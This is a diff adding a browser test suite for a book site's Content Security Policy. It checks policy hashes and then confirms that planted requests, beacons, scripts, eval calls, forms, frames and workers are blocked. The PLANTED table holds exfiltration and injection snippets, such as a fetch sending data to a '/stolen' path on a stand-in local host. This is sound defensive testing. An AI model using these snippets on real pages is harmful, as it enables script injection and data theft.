@@ -1,0 +1,190 @@
+"""The content security policy: a page that does what it should breaks none of it, and a planted
+request, image, form, script or worker is stopped by the browser."""
+
+from __future__ import annotations
+
+import re
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Error
+
+from _ext.book_site.policy import handlers_of, hash_of, inline_scripts, policy, with_policy
+from tests.site.reader import PAGES
+
+WATCH = """
+window.broken = [];
+addEventListener("securitypolicyviolation", (event) =>
+  window.broken.push(`${event.effectiveDirective} ${event.blockedURI}`));
+"""
+CHAPTER = "chapters/03_frequency_and_wavelength.html"
+META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
+
+
+# ---- what stands on the pages
+
+
+@pytest.mark.parametrize("name", PAGES)
+def test_each_page_has_its_policy_in_front_of_all_that_it_governs(name, book_html):
+    page = (Path(book_html) / name).read_text(encoding="utf-8")
+    [written] = META.findall(page)
+    assert re.search(r"<head[^>]*>\s*<meta http-equiv=\"Content-Security-Policy\"", page)
+    texts = [file.read_text(encoding="utf-8") for file in Path(book_html).rglob("*.html")]
+    assert written == policy(META.sub("", page), set().union(*map(handlers_of, texts)))
+    assert "unsafe-eval'" not in written.replace("'wasm-unsafe-eval'", "")
+    assert "*" not in written and "http" not in written
+    scripts = re.search(r"script-src ([^;]*)", written)[1]
+    assert "unsafe-inline" not in scripts
+    assert all(hash_of(script) in scripts for script in inline_scripts(page))
+
+
+def test_a_policy_is_written_once_and_names_what_runs_alone():
+    data = '<script type="application/json">{"a": 1}</script>'
+    call = ' onclick="go(&quot;1&quot;)"'
+    page = f"<html><head>\n<script>run()</script>{data}</head><p{call}></html>"
+    handlers = handlers_of(page)
+    once = with_policy(page, handlers)
+    assert with_policy(once, handlers) == once != page
+    [written] = META.findall(once)
+    assert hash_of("run()") in written and hash_of('go("1")') in written
+    assert hash_of('{"a": 1}') not in written
+    assert written.count("sha256") == 2
+    assert "script-src-attr 'none'" in policy(page.replace(call, ""), set())
+
+
+# ---- what the browser does
+
+
+@pytest.fixture
+def page(browser, book_url):
+    context = browser.new_context()
+    context.add_init_script(WATCH)
+    page = context.new_page()
+    yield page
+    context.close()
+
+
+def test_a_chapter_does_all_that_it_should_and_breaks_nothing(page, book_url):
+    page.goto(f"{book_url}/{CHAPTER}")
+    explorer = page.locator(".pe-explorer").first
+    explorer.scroll_into_view_if_needed()
+    explorer.locator("input[type=range]").first.press("ArrowRight")
+    explorer.locator(".js-plotly-plot .main-svg").first.wait_for(state="attached")
+    question = page.locator("form.pe-question").first
+    question.locator("input").first.check()
+    question.locator("button").click()
+    question.locator(".pe-reply strong").wait_for()
+    page.locator("button.theme-switch-button:visible").first.click()
+    page.evaluate("window.print = () => { window.printed = true; }")
+    page.evaluate("document.querySelector('[onclick=\"window.print()\"]').click()")
+    assert page.evaluate("window.printed") is True
+    assert page.evaluate("window.broken") == []
+    page.goto(f"{book_url}/search.html?q=wavelength")
+    page.locator("ul.search li").first.wait_for()
+    assert page.evaluate("window.broken") == []
+
+
+@pytest.fixture
+def elsewhere():
+    """Another host that takes whatever it gets, and its list of what it was asked."""
+    asked = []
+
+    class Taker(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(b"<title>elsewhere</title><body>")
+
+        do_POST = do_GET
+
+        def log_message(self, *_):
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Taker) as server:
+        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_address[1]}", asked
+        server.shutdown()
+
+
+PLANTED = {
+    "a request": ("fetch('URL/stolen').catch(() => {})", "connect-src"),
+    "a beacon": ("navigator.sendBeacon('URL/stolen', 'x')", "connect-src"),
+    "a socket": ("try { new WebSocket('URL/'.replace('http', 'ws')) } catch {}", "connect-src"),
+    "an image": ("new Image().src = 'URL/pixel.png'", "img-src"),
+    "a style": ("add('link', { rel: 'stylesheet', href: 'URL/x.css' })", "style-src-elem"),
+    "a font": (
+        "add('style', { textContent: '@font-face { font-family: x; src: url(URL/x.woff2) }' });"
+        "document.body.style.fontFamily = 'x'",
+        "font-src",
+    ),
+    "a script": ("add('script', { src: 'URL/x.js' })", "script-src-elem"),
+    "a script in the page": ("add('script', { text: 'window.ran = true' })", "script-src-elem"),
+    "code from text": ("try { eval('window.ran = true') } catch {}", "script-src"),
+    "a handler": (
+        "document.body.setAttribute('onclick', 'window.ran = true'); document.body.click()",
+        "script-src-attr",
+    ),
+    "a form": (
+        "const form = add('form', { action: 'URL/form', method: 'post' }); form.submit()",
+        "form-action",
+    ),
+    "a frame": ("add('iframe', { src: 'URL/frame' })", "frame-src"),
+    "another base": ("add('base', { href: 'URL/' })", "base-uri"),
+    "a worker of a text": (
+        "try { new Worker(window.URL.createObjectURL(new Blob(['postMessage(1)']))) } catch {}",
+        "worker-src",
+    ),
+    "a worker from elsewhere": (
+        "try { new Worker('data:text/javascript,postMessage(1)') } catch {}",
+        "worker-src",
+    ),
+}
+
+
+def plant(page, address: str, script: str) -> None:
+    """Run a script as a page's own would run, after this call."""
+    script = re.sub(r"(?<=['(])URL/", f"{address}/", script)
+    page.evaluate(
+        "() => { const add = (name, parts) => document.body.appendChild("
+        f"Object.assign(document.createElement(name), parts)); setTimeout(() => {{ {script} }}); }}"
+    )
+
+
+def test_what_is_planted_is_stopped(page, book_url, elsewhere):
+    address, asked = elsewhere
+    faults = []
+    for what, (script, directive) in PLANTED.items():
+        page.goto(f"{book_url}/glossary.html")
+        plant(page, address, script)
+        try:
+            page.wait_for_function("window.broken.length", timeout=20_000)
+        except Error:
+            faults.append(f"{what} broke no policy")
+            continue
+        broken = page.evaluate("window.broken")
+        if not any(line.split()[0] == directive for line in broken):
+            faults.append(f"{what}: {broken}")
+        if page.evaluate("window.ran") or page.url != f"{book_url}/glossary.html":
+            faults.append(f"{what} ran")
+    assert not faults, "\n".join(faults)
+    assert asked == []
+
+
+def test_without_the_policy_it_would_arrive(page, elsewhere):
+    """The other host does take what comes: else the test above would show nothing."""
+    address, asked = elsewhere
+    page.goto(address.replace("127.0.0.1", "localhost"))
+    del asked[:]
+    planted = ("a request", "an image", "a style", "a script")
+    for what in planted:
+        plant(page, address, PLANTED[what][0])
+    for _ in range(200):
+        page.wait_for_timeout(100)
+        if len(asked) == len(planted):
+            break
+    assert sorted(asked) == ["/pixel.png", "/stolen", "/x.css", "/x.js"]
